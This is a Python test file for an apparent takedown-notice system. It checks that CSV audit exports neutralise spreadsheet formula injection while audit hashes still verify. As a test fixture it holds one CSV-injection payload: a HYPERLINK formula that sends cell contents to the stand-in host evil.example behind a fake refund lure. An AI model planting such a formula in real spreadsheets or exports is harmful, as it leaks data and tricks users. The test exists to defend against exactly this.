"""A seller's text cannot become a formula in a brand's spreadsheet; the audit hashes still check out."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest

from core.audit_chain import CONTENT_FIELDS
from core.csv_export import csv_text, raw_cell, safe_cell
from tests.takedowns.factories import COUNTER, item_in_state
from tests.takedowns.pages_kit import login

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for your refund")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'plain"])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_reads_back_raw(value: str) -> None:
    cell = safe_cell(value)
    assert cell.startswith("'")
    assert raw_cell(cell) == value


@pytest.mark.parametrize("value", ["plain", "12", "", None, "a=b", '{"k":1}'])
def test_ordinary_cells_are_unchanged(value) -> None:
    assert safe_cell(value) == ("" if value is None else value)


def test_a_counter_notice_formula_is_neutralised_in_the_notice_audit_export(cast, client, monkeypatch) -> None:
    from tests.takedowns import factories

    monkeypatch.setitem(factories.COUNTER, "statement", FORMULA + " " + COUNTER["statement"])
    item = item_in_state(cast, "counter_noticed")
    response = login(client, cast.manager_a).get(f"/takedowns/notices/{item.complaint_id}/audit.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
    counter = next(row for row in rows if row["action"].endswith("counter_notice"))
    assert counter["reason"].startswith("'=HYPERLINK(")
    # The recipient still verifies every entry: raw values (one leading apostrophe dropped) hash as stored.
    for row in rows:
        raw = {name: raw_cell(row[name]) for name in row}
        content = {name: raw[name] for name in CONTENT_FIELDS}
        content["data"] = json.loads(content["data"])
        content["brand_id"] = int(content["brand_id"]) if content["brand_id"] else None
        text = json.dumps(content, sort_keys=True, ensure_ascii=False, separators=(",", ":"))
        assert hashlib.sha256((raw["prev_hash"] + text).encode()).hexdigest() == raw["entry_hash"]


def test_csv_text_neutralises_the_header_and_every_row() -> None:
    text = csv_text(["=name"], [["-5"], ["ok"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=name"], ["'-5"], ["ok"]]
